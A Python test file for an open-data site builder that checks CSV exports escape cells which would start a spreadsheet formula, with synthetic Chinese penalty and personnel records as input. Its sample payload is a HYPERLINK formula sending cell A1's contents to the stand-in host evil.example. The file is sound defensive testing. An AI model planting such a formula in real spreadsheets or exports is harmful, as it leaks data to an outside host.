"""Open-data CSV cells never start a spreadsheet formula (#12, CSV/formula injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
from decimal import Decimal
from pathlib import Path

import pytest
from site_helpers import SMALL_AGENCY
from sunlight_site.data.tables import csv_bytes

# What spreadsheet programs read as the start of a formula (OWASP "CSV injection").
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'

DECISIONS = (
    "id,doc_no,kind,party_type,party_name,credit_code,legal_rep,facts,basis,content,amount,office,decided_on\n"
    f'F-1,青城管罚决字〔2026〕第000001号,行政处罚,法人,"{FORMULA.replace(chr(34), chr(34) * 2)}",'
    "91350100M000100Y43,@王五,+在青石路擅自占用道路堆放物料。,-《城市市容和环境卫生管理条例》第三十六条,"
    "罚款人民币500元,500,bureau,2026-11-16\n"
)


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_cells_that_would_start_a_formula_are_neutralised() -> None:
    rows = cells(
        csv_bytes(["a", "b", "c", "d"], [[FORMULA, "+1", "@x", "\t=1"], ["-2", "普通文字", 3, None]])
    )
    assert rows[1] == ["'" + FORMULA, "'+1", "'@x", "'\t=1"]
    assert rows[2] == ["'-2", "普通文字", "3", ""]


def test_a_negative_number_stays_a_number() -> None:
    """A number the build computed (a fall in fines: growth -0.1) is no formula: not escaped.
    The same text given as a string still is."""
    rows = cells(csv_bytes(["growth", "text"], [[Decimal("-0.1"), "-0.1"], [-3, "-3"]]))
    assert rows[1:] == [["-0.1", "'-0.1"], ["-3", "'-3"]]


@pytest.mark.slow
def test_no_open_data_csv_cell_starts_a_formula(tmp_path: Path) -> None:
    from sunlight_site.build import build_site

    content = tmp_path / "content"
    content.mkdir()
    for name in ("agency.yaml", "offices.yaml", "complaints.yaml"):
        shutil.copy(SMALL_AGENCY / name, content / name)
    (content / "decisions").mkdir()
    (content / "decisions" / "2026.csv").write_text(DECISIONS, encoding="utf-8")
    (content / "personnel.csv").write_text(
        "name,cert_no,office,area,status\n=1+1,+310000001,bureau,@青石,active\n", encoding="utf-8"
    )
    out = tmp_path / "out"
    report = build_site(content, out, dt.date(2026, 11, 20), search=False)
    assert report["counts"]["decisions_public"] == 1
    decisions = cells((out / "data" / "decisions.csv").read_bytes())
    header, row = decisions[0], decisions[1]
    assert row[header.index("当事人名称")] == "'" + FORMULA
    checked = 0
    for path in sorted((out / "data").glob("*.csv")):
        for row in cells(path.read_bytes())[1:]:
            for cell in row:
                checked += 1
                if re.fullmatch(r"-\d+(?:\.\d+)?", cell):
                    continue  # a negative number (see test_a_negative_number_stays_a_number)
                assert not cell.startswith(TRIGGERS), f"{path.name}: {cell!r}"
    assert checked > 20
    notes = (out / "data" / "index.html").read_text(encoding="utf-8")
    assert "公式" in notes
